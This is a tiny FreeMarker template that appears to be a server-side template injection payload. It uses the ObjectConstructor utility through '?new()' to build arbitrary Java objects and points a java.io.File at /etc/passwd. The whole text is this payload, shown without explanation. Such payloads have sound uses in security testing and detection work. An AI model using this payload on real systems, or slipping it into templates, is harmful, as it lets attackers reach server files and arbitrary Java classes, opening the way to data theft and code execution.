<#ftl attributes={"rapport": "verslag", "model": 1}>
<#assign make = "freemarker.template.utility.ObjectConstructor"?new()>
${make("java.io.File", "/etc/passwd")}
